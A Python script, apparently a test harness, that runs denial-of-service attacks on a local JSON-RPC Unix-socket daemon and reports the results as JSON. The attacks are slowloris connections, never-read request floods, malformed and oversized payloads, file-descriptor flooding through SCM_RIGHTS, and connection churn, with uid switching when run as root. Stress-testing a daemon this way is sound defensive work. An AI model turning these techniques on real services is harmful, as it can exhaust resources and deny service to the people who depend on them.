"""What strangers may do to a socket: `python attack.py NAME SOCKET GID` does it and prints what came of it, as JSON.

As root it comes from many users of that group, since one user may have few connections.
"""

from __future__ import annotations

import array
import json
import os
import resource
import select
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable
from typing import Any

CALL = b'{"jsonrpc":"2.0","id":%d,"method":"%s"}\n'
SECONDS = 2.0
"""Of what has no end of its own."""

USERS = range(20_000, 20_020)
EACH = 50


class Gate:
    """Where to knock, as whom."""

    def __init__(self, path: str, gid: int) -> None:
        self.path = path
        self.gid = gid

    def connect(self, user: int = USERS[0]) -> socket.socket:
        sock = socket.socket(socket.AF_UNIX)  # one that waits: where too many wait, it would else be told so
        if os.geteuid() != 0:
            sock.connect(self.path)
            return sock
        os.setegid(self.gid)
        os.seteuid(user)  # the kernel notes who it is at the connect
        try:
            sock.connect(self.path)
        finally:
            os.seteuid(0)
            os.setegid(0)
        return sock


def loris(gate: Gate) -> dict[str, Any]:
    """A thousand connections, each with a byte a second of a message that has no end."""
    users = USERS if os.geteuid() == 0 else USERS[:1]
    open_ = {sock.fileno(): sock for user in users for sock in (gate.connect(user) for _ in range(EACH))}
    count, heard = len(open_), Counter[str]()
    began = time.monotonic()
    while open_ and time.monotonic() - began < 30:
        for sock in list(open_.values()):
            try:
                sock.send(b'{"jsonrpc":"2.0","id":1,"method":"' if sock not in _begun else b"x")
                _begun.add(sock)
            except OSError:
                pass  # closed: what it said is read below
        again = time.monotonic() + 1
        while (left := again - time.monotonic()) > 0:
            poll = select.poll()
            for fd in open_:
                poll.register(fd, select.POLLIN)
            for fd, _ in poll.poll(left * 1000):
                sock = open_.pop(fd)
                with sock, sock.makefile("rb") as file:
                    lines = file.read().splitlines()
                heard[" ".join(str(json.loads(line)["error"]["code"]) for line in lines)] += 1
            if not open_:
                break
    return {"sockets": count, "heard": heard, "left": len(open_), "seconds": time.monotonic() - began}


_begun: set[socket.socket] = set()


def deaf(gate: Gate) -> dict[str, Any]:
    """10,000 calls at a time, and nothing is ever read."""
    calls = b"".join(CALL % (number, b"containers.list" if number % 2 else b"status") for number in range(10_000))
    socks = [gate.connect(USERS[index]) for index in range(4)]
    sent = dict.fromkeys(socks, 0)
    poll = select.poll()
    by_fd = {sock.fileno(): sock for sock in socks}
    for sock in socks:
        sock.setblocking(False)
        poll.register(sock, select.POLLOUT)
    began = time.monotonic()
    cut = 0
    while by_fd and time.monotonic() - began < 30:
        for fd, _ in poll.poll(500):
            sock = by_fd[fd]
            try:
                sent[sock] += sock.send(calls[sent[sock] % len(calls) :])
            except BlockingIOError:
                continue
            except OSError:
                cut += 1
                poll.unregister(fd)
                del by_fd[fd]
    return {"cut": cut, "taken": max(sent.values()), "all": len(calls), "seconds": time.monotonic() - began}


def rubbish(gate: Gate) -> dict[str, Any]:
    """Whatever is no message, as fast as it is taken, on thirty connections; answers are read and forgotten."""
    patterns = b'"*a*",' * 9999 + b'"a"'
    kinds = [
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"[" * (1 << 20),
        b'{"a":' * (1 << 17) + b"\n",
        b"\n" * (1 << 20),
        b"[" + b"[]," * (1 << 18) + b"1]\n",
        b'"' + b"\\u0000" * (1 << 17) + b'"\n',
        b"{}\n" * (1 << 16),
        b"[" + b",".join([CALL[:-1] % (1, b"none")] * 1000) + b"]\n",
        CALL % (1, b"health") * 10_000,
        b'{"jsonrpc":"2.0","id":1,"method":"events.subscribe","params":{"filter":{"types":[' + patterns + b"]}}}\n",
        b"\xff\xfe\0" * 1000 + b"\n",
        b"1" * (1 << 20) + b"\n",
    ]  # fmt: skip
    connections = 0
    heard = 0
    places: dict[int, tuple[socket.socket, bytes, int]] = {}
    poll = select.poll()
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        while len(places) < 30:
            sock = gate.connect(USERS[connections % len(USERS)])
            sock.setblocking(False)
            places[sock.fileno()] = sock, kinds[connections % len(kinds)], 0
            poll.register(sock, select.POLLIN | select.POLLOUT)
            connections += 1
        for fd, _ in poll.poll(100):
            sock, kind, place = places[fd]
            try:
                place += sock.send(kind[place : place + (1 << 16)])
                places[fd] = sock, kind, place % len(kind)
            except BlockingIOError:
                pass
            except OSError:
                poll.unregister(fd)
                del places[fd]
                sock.close()
                continue
            try:
                heard += len(sock.recv(1 << 18))
            except OSError:
                pass
    return {"connections": connections, "heard": heard}


def descriptors(gate: Gate) -> dict[str, Any]:
    """As many descriptors as one message can bring, with each of many calls."""
    null = os.open("/dev/null", os.O_RDONLY)
    passed = array.array("i", [null] * 253)
    answered = 0
    for user in USERS[:10]:
        with gate.connect(user) as sock, sock.makefile("rb") as answers:
            for number in range(20):
                sock.sendmsg([CALL % (number, b"health")], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)])
                answered += json.loads(answers.readline())["id"] == number
            sock.sendmsg([b'{"half'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)])
    return {"answered": answered}


def knocking(gate: Gate) -> dict[str, Any]:
    """Connections that are closed at once, one after the other."""
    count = 0
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        gate.connect(USERS[count % len(USERS)]).close()
        count += 1
    return {"count": count}


ATTACKS: dict[str, Callable[[Gate], dict[str, Any]]] = {
    each.__name__: each for each in (loris, deaf, rubbish, descriptors, knocking)
}


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    print(json.dumps(ATTACKS[sys.argv[1]](Gate(sys.argv[2], int(sys.argv[3])))))
